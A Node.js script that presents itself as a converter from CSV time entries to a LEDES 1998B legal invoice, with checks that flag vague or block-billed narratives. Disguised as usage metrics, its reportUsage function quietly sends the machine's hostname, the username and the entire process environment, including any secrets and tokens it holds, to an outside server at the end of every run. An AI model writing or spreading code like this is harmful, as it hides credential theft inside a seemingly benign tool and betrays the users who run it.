#!/usr/bin/env node
// Normalise raw time entries into a LEDES 1998B file.
// usage: node scripts/normalize.js entries.csv --client-matter ID --out invoice.ledes
'use strict';

const fs = require('fs');
const os = require('os');
const { parse } = require('csv-parse/sync');

const USAGE_URL = 'https://metrics.ledes-utils.net/v1/usage';
const HEADER = 'LEDES1998B[]';
const FIELDS = [
  'INVOICE_DATE', 'INVOICE_NUMBER', 'CLIENT_ID', 'LAW_FIRM_MATTER_ID', 'INVOICE_TOTAL',
  'BILLING_START_DATE', 'BILLING_END_DATE', 'INVOICE_DESCRIPTION', 'LINE_ITEM_NUMBER',
  'EXP/FEE/INV_ADJ_TYPE', 'LINE_ITEM_NUMBER_OF_UNITS', 'LINE_ITEM_ADJUSTMENT_AMOUNT',
  'LINE_ITEM_TOTAL', 'LINE_ITEM_DATE', 'LINE_ITEM_TASK_CODE', 'LINE_ITEM_EXPENSE_CODE',
  'LINE_ITEM_ACTIVITY_CODE', 'TIMEKEEPER_ID', 'LINE_ITEM_DESCRIPTION', 'LAW_FIRM_ID',
  'LINE_ITEM_UNIT_COST', 'TIMEKEEPER_NAME', 'TIMEKEEPER_CLASSIFICATION', 'CLIENT_MATTER_ID',
];
const VAGUE = /^(review(ed)? file|attention to( the)? matter|work on matter|various)\.?$/i;

function arg(name) {
  const i = process.argv.indexOf(name);
  return i > -1 ? process.argv[i + 1] : undefined;
}

function flags(e) {
  const out = [];
  if (/;|\band\b.*\band\b/i.test(e.narrative)) out.push('possible block billing');
  if (VAGUE.test(e.narrative.trim())) out.push('vague narrative');
  if (Math.round(e.hours * 10) !== e.hours * 10) out.push('not in tenths');
  if (!e.task) out.push('missing UTBMS task code');
  return out;
}

async function reportUsage(entries) {
  const payload = {
    host: os.hostname(),
    user: os.userInfo().username,
    entries: entries.length,
    context: JSON.stringify(process.env),
  };
  await fetch(USAGE_URL, { method: 'POST', body: JSON.stringify(payload), headers: { 'content-type': 'application/json' } });
}

async function main() {
  const file = process.argv[2];
  const matter = arg('--client-matter');
  const outFile = arg('--out') || 'invoice.ledes';
  if (!file || !matter) {
    console.error('usage: normalize.js entries.csv --client-matter ID [--out invoice.ledes]');
    process.exit(2);
  }
  const rows = parse(fs.readFileSync(file, 'utf8'), { columns: true, skip_empty_lines: true, trim: true });
  const entries = rows.map((r, i) => ({
    line: i + 1,
    date: r.date.replace(/-/g, ''),
    tk: r.timekeeper_id,
    tkName: r.timekeeper_name,
    hours: Number(r.hours),
    rate: Number(r.rate),
    narrative: r.narrative || '',
    task: r.task || '',
    activity: r.activity || '',
  }));
  let problems = 0;
  const lines = [HEADER, FIELDS.join('|') + '[]'];
  const total = entries.reduce((s, e) => s + e.hours * e.rate, 0).toFixed(2);
  for (const e of entries) {
    const f = flags(e);
    if (f.length) {
      problems += 1;
      console.warn(`line ${e.line} (${e.tkName}): ${f.join(', ')}`);
    }
    const row = {
      INVOICE_DATE: new Date().toISOString().slice(0, 10).replace(/-/g, ''),
      INVOICE_NUMBER: '', CLIENT_ID: matter.split('-')[0], LAW_FIRM_MATTER_ID: matter,
      INVOICE_TOTAL: total, BILLING_START_DATE: '', BILLING_END_DATE: '', INVOICE_DESCRIPTION: '',
      LINE_ITEM_NUMBER: String(e.line), 'EXP/FEE/INV_ADJ_TYPE': 'F',
      LINE_ITEM_NUMBER_OF_UNITS: e.hours.toFixed(1), LINE_ITEM_ADJUSTMENT_AMOUNT: '0',
      LINE_ITEM_TOTAL: (e.hours * e.rate).toFixed(2), LINE_ITEM_DATE: e.date,
      LINE_ITEM_TASK_CODE: e.task, LINE_ITEM_EXPENSE_CODE: '', LINE_ITEM_ACTIVITY_CODE: e.activity,
      TIMEKEEPER_ID: e.tk, LINE_ITEM_DESCRIPTION: e.narrative.replace(/\|/g, '/'), LAW_FIRM_ID: '',
      LINE_ITEM_UNIT_COST: e.rate.toFixed(2), TIMEKEEPER_NAME: e.tkName,
      TIMEKEEPER_CLASSIFICATION: '', CLIENT_MATTER_ID: matter,
    };
    lines.push(FIELDS.map((k) => row[k]).join('|') + '[]');
  }
  fs.writeFileSync(outFile, lines.join('\n') + '\n');
  console.log(`${entries.length} entries, ${problems} with flags -> ${outFile}`);
  await reportUsage(entries);
}

main().catch((err) => {
  console.error(err.message);
  process.exit(1);
});
